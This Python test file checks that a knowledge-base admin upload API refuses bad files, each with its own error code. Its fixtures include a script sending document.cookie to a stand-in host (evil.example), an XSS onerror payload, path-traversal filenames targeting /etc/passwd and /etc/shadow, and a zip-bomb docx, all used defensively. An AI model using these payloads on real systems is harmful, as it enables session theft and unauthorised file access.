"""Bad files through the admin upload API (issue 3): each gets its own error code in the job's file list,
the good file beside them still reaches the draft, the active version is unchanged, nothing of a refused
file is indexed, and an over-size body is never held in memory or left on disk."""

from __future__ import annotations

import io
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy import func, select

from app.container import Container
from app.db import crud_kb
from app.db.models import Chunk, Document
from tests.unit.app.admin.support import (
    FAQ_CSV,
    GUIDE_MD,
    publish,
    upload,
    upload_and_wait,
    wait_job,
    zip_bomb_docx,
)
from tests.unit.app.helpers import Tenant

API = "/api/v1/admin/kb"


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


SCRIPTS_HTML = (
    "<html><head><script>document.location='https://evil.example/?c='+document.cookie</script></head><body>"
    + "<script>var x = 1;</script><noscript><img src=x onerror=alert(1)></noscript>" * 50
    + "</body></html>"
).encode()

BAD_FILES: list[tuple[str, bytes, str]] = [
    (
        "corrupt.pdf",
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + bytes(range(256)) * 20,
        "corrupt_file",
    ),
    ("locked.pdf", encrypted_pdf(), "encrypted_file"),
    ("empty.txt", b"", "empty_file"),
    ("statement.pdf", b"Plain text pretending to be a PDF.\n" * 10, "type_mismatch"),
    ("bomb.docx", zip_bomb_docx(), "zip_bomb"),
    ("rates.csv", b"name,amount\nalice,3\nbob,4\n", "no_question_column"),
    ("promo.html", SCRIPTS_HTML, "no_text"),
    ("../../etc/passwd.md", b"# root\n\nx:0:0\n", "invalid_filename"),
    ("/etc/shadow.md", b"# shadow\n\nsecret\n", "invalid_filename"),
    ("..\\..\\boot.ini.txt", b"boot loader\n", "invalid_filename"),
    ("guides/../../up.md", b"# up\n\nclimb\n", "invalid_filename"),
    ("setup.exe", b"MZ\x90\x00" + b"\x00" * 100, "unsupported_type"),
]


@pytest.fixture
def small_files(kb: Container) -> Container:
    kb.settings = kb.settings.model_copy(
        update={"retrieval": kb.settings.retrieval.model_copy(update={"max_file_bytes": 256 * 1024})}
    )
    return kb


@pytest.fixture
def two_files_max(small_files: Container) -> Container:
    """``small_files``, and at most two files in one upload."""
    kb = small_files
    kb.settings = kb.settings.model_copy(
        update={"admin": kb.settings.admin.model_copy(update={"upload_max_files": 2})}
    )
    return kb


async def _counts(kb: Container, tenant: Tenant) -> tuple[str | None, int]:
    async with kb.sessions() as s:
        active = await crud_kb.get_active_version(s, tenant_id=tenant.id)
        chunks = (
            await s.execute(select(func.count()).select_from(Chunk).where(Chunk.tenant_id == tenant.id))
        ).scalar_one()
    return (active.label if active else None), int(chunks)


async def test_each_bad_file_fails_alone_with_its_code(
    client: httpx.AsyncClient, small_files: Container, bank: Tenant, admin_headers: dict[str, str]
) -> None:
    kb = small_files
    await upload_and_wait(client, admin_headers, [("faq.csv", FAQ_CSV.encode())])
    assert (await publish(client, admin_headers)).status_code == 200
    before = await _counts(kb, bank)

    files = [(name, data) for name, data, _ in BAD_FILES]
    files += [("huge.md", b"# big\n\n" + b"a" * (600 * 1024)), ("hours.md", GUIDE_MD.encode())]
    r = await upload(client, admin_headers, files)
    assert r.status_code == 202, r.text
    job = await wait_job(client, admin_headers, r.json()["job_id"])
    assert job["status"] == "succeeded"  # the good file made it
    by_name = {d["source"]: d for d in job["documents"]}
    expected = {name: code for name, _, code in BAD_FILES}
    expected["huge.md"] = "file_too_large"
    got = {name: (by_name[name]["status"], by_name[name]["error_code"]) for name in expected}
    assert got == {name: ("failed", code) for name, code in expected.items()}
    assert all(by_name[name]["error_detail"] for name in expected)
    assert by_name["hours.md"]["status"] == "indexed"
    assert by_name["huge.md"]["size_bytes"] > 256 * 1024  # what was sent, though only the cap was read

    # Nothing of a refused file was stored or indexed; the live version is the one published before.
    active, chunks = await _counts(kb, bank)
    assert active == before[0]
    async with kb.sessions() as s:
        failed = (await s.execute(select(Document).where(Document.status == "failed"))).scalars().all()
        failed_ids = {d.id for d in failed}
        assert not (await s.execute(select(Chunk).where(Chunk.document_id.in_(failed_ids)))).first()
        raw_sizes = [
            len(await crud_kb.get_document_raw(s, tenant_id=bank.id, document_id=d.id) or b"") for d in failed
        ]
    assert max(raw_sizes) <= 256 * 1024
    hours_chunks = chunks - before[1]
    assert hours_chunks == by_name["hours.md"]["chunk_count"]
    draft = (await client.get(f"{API}/versions/draft", headers=admin_headers)).json()
    assert (draft["added"], draft["removed"]) == (["hours.md"], [])
    # no upload leftovers on disk
    uploads = Path(kb.settings.data_dir) / "uploads"
    assert not uploads.exists() or not any(uploads.iterdir())


async def test_an_upload_of_only_bad_files_changes_nothing(
    client: httpx.AsyncClient, small_files: Container, bank: Tenant, admin_headers: dict[str, str]
) -> None:
    kb = small_files
    await upload_and_wait(client, admin_headers, [("faq.csv", FAQ_CSV.encode())])
    await publish(client, admin_headers)
    versions_before = (await client.get(f"{API}/versions", headers=admin_headers)).json()
    r = await upload(client, admin_headers, [(n, d) for n, d, _ in BAD_FILES[:7]])
    job = await wait_job(client, admin_headers, r.json()["job_id"])
    assert (job["status"], job["error_code"]) == ("failed", "no_document_indexed")
    assert all(d["status"] == "failed" for d in job["documents"])
    assert (await client.get(f"{API}/versions", headers=admin_headers)).json() == versions_before
    assert (await client.get(f"{API}/versions/draft", headers=admin_headers)).status_code == 404
    active = await kb.knowledge.active(bank.id)
    assert active is not None
    assert active.version == "v1"


async def test_refused_at_upload_only_ends_the_job_at_once(
    client: httpx.AsyncClient, small_files: Container, bank: Tenant, admin_headers: dict[str, str]
) -> None:
    r = await upload(client, admin_headers, [("../x.md", b"# x\n\ny\n"), ("none.txt", b"")])
    job = r.json()["job"]
    assert (job["status"], job["error_code"]) == ("failed", "no_document_indexed")
    assert sorted(d["error_code"] for d in job["documents"]) == ["empty_file", "invalid_filename"]


async def _body(boundary: str, name: str, size: int, chunk: int = 1 << 20) -> AsyncIterator[bytes]:
    yield (
        f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
        "Content-Type: text/plain\r\n\r\n"
    ).encode()
    block = b"x" * chunk
    sent = 0
    while sent < size:
        part = block[: min(chunk, size - sent)]
        sent += len(part)
        yield part
    yield f"\r\n--{boundary}--\r\n".encode()


async def test_a_200_mb_file_is_streamed_past_not_stored(
    client: httpx.AsyncClient, kb: Container, bank: Tenant, admin_headers: dict[str, str]
) -> None:
    """The default 20 MB limit: a 200 MB part is read to its end but only its first 20 MB touch the disk
    (then are removed); the file comes back refused as file_too_large."""
    boundary = "kefu-test-boundary"
    r = await client.post(
        f"{API}/uploads",
        headers={**admin_headers, "Content-Type": f"multipart/form-data; boundary={boundary}"},
        content=_body(boundary, "manual.txt", 200 * 1024 * 1024),
        timeout=120,
    )
    assert r.status_code == 202, r.text
    doc = r.json()["job"]["documents"][0]
    assert (doc["status"], doc["error_code"], doc["size_bytes"]) == (
        "failed",
        "file_too_large",
        200 * 1024 * 1024,
    )
    uploads = Path(kb.settings.data_dir) / "uploads"
    assert not any(uploads.iterdir())


async def test_a_body_past_the_whole_upload_cap_is_cut_off(
    client: httpx.AsyncClient, two_files_max: Container, bank: Tenant, admin_headers: dict[str, str]
) -> None:
    kb = two_files_max
    boundary = "b0undary"
    headers = {**admin_headers, "Content-Type": f"multipart/form-data; boundary={boundary}"}
    # Announced too large: refused before a byte is read.
    r = await client.post(f"{API}/uploads", headers={**headers, "Content-Length": str(10**9)}, content=b"x")
    assert (r.status_code, r.json()["error_code"]) == (413, "payload_too_large")
    # Streamed without a length: cut off once past the cap.
    r = await client.post(
        f"{API}/uploads", headers=headers, content=_body(boundary, "a.txt", 4 * 1024 * 1024)
    )
    assert (r.status_code, r.json()["error_code"]) == (413, "payload_too_large")
    assert not any((Path(kb.settings.data_dir) / "uploads").iterdir())
    async with kb.sessions() as s:
        assert (await s.execute(select(func.count()).select_from(Document))).scalar_one() == 0


async def test_too_many_files_and_non_multipart_bodies(
    client: httpx.AsyncClient, two_files_max: Container, bank: Tenant, admin_headers: dict[str, str]
) -> None:
    r = await upload(
        client,
        admin_headers,
        [("a.md", b"# A\n\nalpha\n"), ("b.md", b"# B\n\nbeta\n"), ("c.md", b"# C\n\ngamma\n")],
    )
    job = await wait_job(client, admin_headers, r.json()["job_id"])
    assert {d["source"]: d["error_code"] for d in job["documents"]} == {
        "a.md": None,
        "b.md": None,
        "c.md": "too_many_files",
    }
    r = await client.post(f"{API}/uploads", headers=admin_headers, json={"files": []})
    assert (r.status_code, r.json()["error_code"]) == (422, "validation_error")
    r = await client.post(
        f"{API}/uploads",
        headers={**admin_headers, "Content-Type": "multipart/form-data; boundary=zz"},
        content=b'--zz\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n--zz--\r\n',
    )
    assert (r.status_code, r.json()["error_code"]) == (422, "validation_error")
